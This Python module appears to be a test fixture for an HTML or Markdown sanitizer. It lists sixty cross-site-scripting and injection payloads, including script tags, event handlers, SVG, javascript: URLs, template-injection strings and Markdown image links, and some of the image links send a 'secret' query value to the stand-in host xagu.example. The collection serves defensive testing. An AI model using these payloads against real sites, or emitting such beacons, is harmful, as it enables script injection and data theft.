"""What strangers and models write to make a browser run or send something: sixty ways. Each tries to set ``window.owned`` or to reach ``xagu.example``."""

from __future__ import annotations

HOST = "https://xagu.example"
_RUN = "window.owned=1"

PAYLOADS: tuple[str, ...] = (
    # scripts
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT >",
    f'<script src="{HOST}/a.js"></script>',
    f'<script type="module">import "{HOST}/a.js"</script>',
    f"</textarea></title></style></script><script>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    # handlers of events
    f'<img src=x onerror="{_RUN}">',
    f"<img/src=x/onerror={_RUN}//",
    f'<svg onload="{_RUN}">',
    f'<body onload="{_RUN}">',
    f'<details open ontoggle="{_RUN}">x</details>',
    f'<input autofocus onfocus="{_RUN}">',
    f'<video><source onerror="{_RUN}"></video>',
    f'"><img src=x onerror={_RUN}>',
    f"' autofocus onfocus='{_RUN}' x='",
    f'" onmouseover="{_RUN}" style="position:fixed;inset:0" x="',
    f'<marquee onstart="{_RUN}">x</marquee>',
    f'<x onanimationstart="{_RUN}" style="animation:a 1s">',
    # SVG and MathML
    f"<svg><script>{_RUN}</script></svg>",
    f'<svg><use href="{HOST}/a.svg#x"/></svg>',
    f'<svg><image href="{HOST}/a.png"/></svg>',
    f'<svg><a href="javascript:{_RUN}"><text y="20">x</text></a></svg>',
    f'<svg><animate onbegin="{_RUN}" attributeName="x" dur="1s"></svg>',
    f'<svg><foreignObject><iframe src="{HOST}"></iframe></foreignObject></svg>',
    f'<math><mtext></p><img src=x onerror="{_RUN}"></mtext></math>',
    f'<math href="javascript:{_RUN}">x</math>',
    # Markdown
    f"![x]({HOST}/a.png)",
    f'![x]({HOST}/a.png?q=sekretua "x")',
    f"[x](javascript:{_RUN})",
    f"[x](data:text/html,<script>{_RUN}</script>)",
    f"[x](vbscript:{_RUN})",
    f"[x]( java\tscript:{_RUN})",
    f"<javascript:{_RUN}>",
    f"[x][y]\n\n[y]: javascript:{_RUN}",
    f"![x][y]\n\n[y]: {HOST}/b.png",
    f"[![x]({HOST}/c.png)](javascript:{_RUN})",
    f"```html\n<script>{_RUN}</script>\n",
    f"`<img src=x onerror={_RUN}>`<img src=x onerror={_RUN}>",
    f"| a |\n|---|\n| <img src={HOST}/d.png> |",
    # addresses
    f'<a href="javascript:{_RUN}" autofocus>x</a>',
    f'<a href="&#106;avascript:{_RUN}">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5vd25lZD0xPC9zY3JpcHQ+" target=_blank>x</a>',
    f'<iframe src="javascript:{_RUN}"></iframe>',
    '<iframe srcdoc="<script>parent.owned=1</script>"></iframe>',
    f'<object data="{HOST}/a.swf"></object><embed src="{HOST}/a.pdf">',
    # without any script: hints, styles, forms, frames
    f'<meta http-equiv="refresh" content="0;url={HOST}/">',
    f'<link rel="stylesheet" href="{HOST}/a.css"><link rel="prefetch" href="{HOST}/p">',
    f'<link rel="preload" as="image" href="{HOST}/i"><link rel="dns-prefetch" href="//xagu.example">',
    f"<style>@import url({HOST}/b.css); body {{ background: url({HOST}/e.png) }}</style>",
    f'<div style="background:url({HOST}/f.png)">x</div>',
    f'<form action="{HOST}/"><input name=q value=x autofocus><button>x</button></form>',
    f'<base href="{HOST}/">',
    f'<img srcset="{HOST}/g.png 1x" src="{HOST}/h.png"><audio src="{HOST}/a.mp3" autoplay></audio>',
    # entities, signs, templates
    f"&lt;script&gt;{_RUN}&lt;/script&gt;&#60;img src=x onerror={_RUN}&#62;",
    f"\u202e<script>{_RUN}</script>\u202c\ufeff＜script＞{_RUN}＜/script＞",
    f"\x0b<img\x0csrc=x\x0conerror={_RUN}>\u2028<svg/onload={_RUN}>",
    "{{ 7*7 }}{% debug %}${7*7}#{7*7}<%= 7*7 %>{{constructor.constructor('window.owned=1')()}}",
    f"{HOST}/auto www.xagu.example xagu@xagu.example <{HOST}/k>",
)
